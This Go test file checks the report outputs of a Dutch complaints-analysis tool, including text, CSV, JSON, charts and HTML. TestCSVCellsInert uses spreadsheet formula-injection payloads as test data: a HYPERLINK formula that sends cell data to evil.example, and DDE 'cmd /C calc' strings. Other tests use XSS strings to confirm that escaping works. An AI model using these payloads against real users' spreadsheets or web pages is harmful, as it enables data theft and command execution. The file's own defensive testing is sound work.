package report

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"flag"
	"image"
	_ "image/png"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/groeimeesters/klachtd/internal/clean"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata")

func TestTextGolden(t *testing.T) {
	for _, lang := range []string{"nl", "en"} {
		t.Run(lang, func(t *testing.T) {
			got := sample().Text(lang)
			path := filepath.Join("testdata", "text_"+lang+".golden")
			if *update {
				if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
					t.Fatal(err)
				}
			}
			want, err := os.ReadFile(path)
			if err != nil {
				t.Fatalf("read golden file (run with -update to create it): %v", err)
			}
			if diff := cmp.Diff(string(want), got); diff != "" {
				t.Errorf("text (-want +got):\n%s", diff)
			}
		})
	}
}

func TestTextFigures(t *testing.T) {
	tests := []struct {
		lang string
		want []string
	}{
		{"nl", []string{
			"eerste helft 2026, 1 januari t/m 30 juni",
			"Klachten ontvangen                     6 (waarvan 1 geanonimiseerd na de bewaartermijn)",
			"mediaan 25,0, gemiddeld 25,0, langst 40,0", // 10, 20, 30, 40 days
			"mediaan 20,5, oudste 30,0",                 // 30 and 11 days
			"Ontvangst bevestigd binnen 48 uur      4 van 6 (67%)",
			"Binnen de (verlengde) termijn beslist  3 van 5 (60%)",
			"Termijn verlengd                       1 (0 automatisch, 1 door medewerkers)",
			"Voorgelegd aan de klachtencommissaris  1",
			"Coaching                     3        1          1             1",
			"(geen dienst genoemd)        1        0          1             0",
			"totaal                       6        2          2             2",
			"- Te late terugkoppeling (2×)",
			"tweede helft 2025         5        2          3    4 van 5 (80%)                  21,5            1",
		}},
		{"en", []string{
			"first half of 2026, 1 January to 30 June",
			"Complaints received                      6 (1 of them anonymised after the retention period)",
			"median 25.0, mean 25.0, longest 40.0",
			"Decided within the (extended) term       3 of 5 (60%)",
			"service                 total  justified  unjustified  no verdict",
			"(no service named)          1          0            1           0",
			"first half of 2026            6          2            2   3 of 5 (60%)                  25.0             1",
		}},
	}
	for _, tt := range tests {
		t.Run(tt.lang, func(t *testing.T) {
			got := sample().Text(tt.lang)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("text lacks %q:\n%s", w, got)
				}
			}
		})
	}
}

func TestCSVParsesBack(t *testing.T) {
	rows, err := csv.NewReader(strings.NewReader(sample().CSV("nl"))).ReadAll()
	if err != nil {
		t.Fatalf("parse CSV: %v", err)
	}
	if want := []string{"Periode", "Cijfer", "Dienst of tekst", "Oordeel", "Waarde"}; !cmp.Equal(rows[0], want) {
		t.Errorf("header: got %q, want %q", rows[0], want)
	}
	got := map[string]string{}
	for _, r := range rows[1:] {
		if r[0] != "eerste helft 2026" {
			t.Errorf("row %q: period %q", r, r[0])
		}
		got[r[1]+"|"+r[2]+"|"+r[3]] = r[4]
	}
	want := map[string]string{
		"Klachten ontvangen||":                                    "6",
		"Geanonimiseerd na de bewaartermijn||":                    "1",
		"Doorlooptijd in dagen, mediaan||":                        "25,0",
		"Binnen de (verlengde) termijn beslist||":                 "3",
		"Niet binnen de termijn beslist||":                        "2",
		"Termijn verlengd door medewerkers||":                     "1",
		"Per dienst|Coaching|":                                    "3",
		"Per dienst|(geen dienst genoemd)|":                       "1",
		"Per oordeel||geen oordeel":                               "2",
		"Per dienst en oordeel|Coaching|gegrond":                  "1",
		"Per dienst en oordeel|Teamtraining|geen oordeel":         "1",
		"Oorzaak|Te late terugkoppeling|":                         "2",
		"Trend: klachten|tweede helft 2025|":                      "5",
		"Trend: mediane doorlooptijd in dagen|eerste helft 2025|": "12,0",
	}
	for k, v := range want {
		if got[k] != v {
			t.Errorf("CSV %s: got %q, want %q", k, got[k], v)
		}
	}
	for k := range got {
		if strings.Contains(k, "||") && strings.HasPrefix(k, "Per dienst|") {
			t.Errorf("CSV row %q has an empty service", k)
		}
	}
	// Nothing measured is empty, not 0,0.
	empty := Analyse(Input{Period: "2026H2", Start: periodEnd, End: periodEnd.AddDate(0, 6, 0)})
	rows, _ = csv.NewReader(strings.NewReader(empty.CSV("nl"))).ReadAll()
	for _, r := range rows {
		if strings.HasPrefix(r[1], "Doorlooptijd") && r[4] != "" {
			t.Errorf("CSV of an empty period: %q = %q, want empty", r[1], r[4])
		}
	}
}

// TestCSVCellsInert: a cell that begins with =, +, -, @, a tab or a carriage return (from a
// complainant's service text or a cause) comes out as text in a spreadsheet.
func TestCSVCellsInert(t *testing.T) {
	hostile := []string{`=HYPERLINK("http://evil.example/?"&A1,"klik")`, "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
		"+1+1", "\t=1+1", "\r=1+1", "\x1b=1+1", "\u202e=1+1"}
	r := sample()
	for i, h := range hostile {
		r.PerService[h] = i + 1
		r.Cross[h] = map[string]int{"gegrond": i + 1}
		r.Causes = append(r.Causes, Count{Text: h, N: 1})
		r.Measures = append(r.Measures, Count{Text: h, N: 1})
	}
	for _, lang := range []string{"nl", "en"} {
		rows, err := csv.NewReader(strings.NewReader(r.CSV(lang))).ReadAll()
		if err != nil {
			t.Fatalf("parse CSV: %v", err)
		}
		formulas := 0
		for _, row := range rows {
			for _, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
					t.Errorf("%s: cell %q would be a formula", lang, cell)
				}
				if strings.HasPrefix(cell, "'") {
					formulas++
				}
				if c, bad := clean.Find(cell); bad {
					t.Errorf("%s: cell %q holds %U", lang, cell, c)
				}
			}
		}
		if formulas < 4*len(hostile) { // service, service×verdict, cause, measure
			t.Errorf("%s: %d cells marked as text, want at least %d", lang, formulas, 4*len(hostile))
		}
	}
}

func TestJSONDecodes(t *testing.T) {
	r := sample()
	var got Report
	if err := json.Unmarshal([]byte(r.JSON()), &got); err != nil {
		t.Fatalf("decode JSON: %v", err)
	}
	if diff := cmp.Diff(r, got); diff != "" {
		t.Errorf("JSON round trip (-want +got):\n%s", diff)
	}
}

func TestChart(t *testing.T) {
	hostile := sample()
	hostile.PerService["<script>alert(1)</script>\n"+strings.Repeat("x", 500)] = 2
	many := sample()
	for _, s := range strings.Split("a b c d e f g h i j k l m n o", " ") {
		many.PerService[s] = 1
		many.Cross[s] = map[string]int{"gegrond": 1}
	}
	tests := []struct {
		name string
		r    Report
	}{
		{"with trend", sample()},
		{"without trend", Analyse(Input{Period: "2026H1", Start: periodStart, End: periodEnd, Stats: []Stat{closedCase(1, 10, 28, "a", "gegrond")}})},
		{"empty period", Analyse(Input{Period: "2026H1", Start: periodStart, End: periodEnd})},
		{"hostile service name", hostile},
		{"more services than the chart names", many},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			b, err := tt.r.ChartPNG()
			if err != nil {
				t.Fatalf("ChartPNG: %v", err)
			}
			cfg, format, err := image.DecodeConfig(bytes.NewReader(b))
			if err != nil || format != "png" || cfg.Width <= 0 || cfg.Height <= 0 {
				t.Fatalf("not a PNG: format %q, %dx%d, %v", format, cfg.Width, cfg.Height, err)
			}
			svg, err := tt.r.Chart("en", FormatSVG)
			if err != nil || !bytes.Contains(svg, []byte("<svg")) {
				t.Errorf("SVG chart: %v, starts %.40q", err, svg)
			}
		})
	}
	if _, err := sample().Chart("nl", "gif"); err == nil {
		t.Error("Chart with an unknown format: want an error")
	}
	with, _ := sample().ChartPNG()
	without, _ := tests[1].r.ChartPNG()
	cw, _, _ := image.DecodeConfig(bytes.NewReader(with))
	co, _, _ := image.DecodeConfig(bytes.NewReader(without))
	if cw.Height <= co.Height {
		t.Errorf("the trend should add a second chart: height %d with trend, %d without", cw.Height, co.Height)
	}
}

func TestHTML(t *testing.T) {
	r := sample()
	r.PerService["<script>alert(1)</script>"] = 1
	r.Cross["<script>alert(1)</script>"] = map[string]int{"gegrond": 1}
	r.Causes = append(r.Causes, Count{Text: `<img src=x onerror="alert(2)">`, N: 1})
	tests := []struct {
		lang   string
		want   []string
		absent []string
	}{
		{"nl", []string{`<html lang="nl">`, "<title>Groei &amp; Co — klachtenanalyse eerste helft 2026, 1 januari t/m 30 juni</title>",
			"&lt;script&gt;alert(1)&lt;/script&gt;", "&lt;img src=x onerror=", `<img src="data:image/png;base64,`,
			`<tr class="total"><td>totaal</td><td class="n">6</td>`, "Te late terugkoppeling (2×)", "<td>eerste helft 2025</td>"},
			[]string{"<script>", "<img src=x"}},
		{"en", []string{`<html lang="en">`, "complaints analysis", "<th>Decided within the (extended) term</th><td>3 of 5 (60%)</td>"},
			[]string{"<script>"}},
	}
	for _, tt := range tests {
		t.Run(tt.lang, func(t *testing.T) {
			got := r.HTML("Groei & Co", tt.lang)
			for _, w := range tt.want {
				if !strings.Contains(got, w) {
					t.Errorf("HTML lacks %q", w)
				}
			}
			for _, a := range tt.absent {
				if strings.Contains(got, a) {
					t.Errorf("HTML contains %q unescaped", a)
				}
			}
		})
	}
}

// FuzzOutputs feeds hostile names, texts and times through every output (HTML draws the
// chart): none may panic, the CSV must parse and the JSON decode.
func FuzzOutputs(f *testing.F) {
	f.Add("Coaching", "gegrond", "Oorzaak", int64(0), int64(10), int64(28))
	f.Add("Training", "", "", int64(5), int64(0), int64(28)) // two open cases
	f.Add("<script>\n\x00", "\xff", strings.Repeat("é", 300), int64(-1<<40), int64(1<<40), int64(0))
	f.Fuzz(func(t *testing.T, service, verdict, cause string, rec, closed, due int64) {
		base := at(1, 0)
		s := Stat{}
		s.Service, s.Verdict, s.Cause, s.Measure = service, verdict, cause, cause
		s.ReceivedAt = base.Add(time.Duration(rec) * time.Minute)
		if closed != 0 {
			s.ClosedAt = s.ReceivedAt.Add(time.Duration(closed) * time.Minute)
		}
		s.DueAt = s.ReceivedAt.Add(time.Duration(due) * time.Minute)
		r := Analyse(Input{Period: service, Start: periodStart, End: periodEnd, Stats: []Stat{s, s}}).CompareTo(Summary{Period: verdict})
		checkOutputs(t, r, service, cause)
	})
}
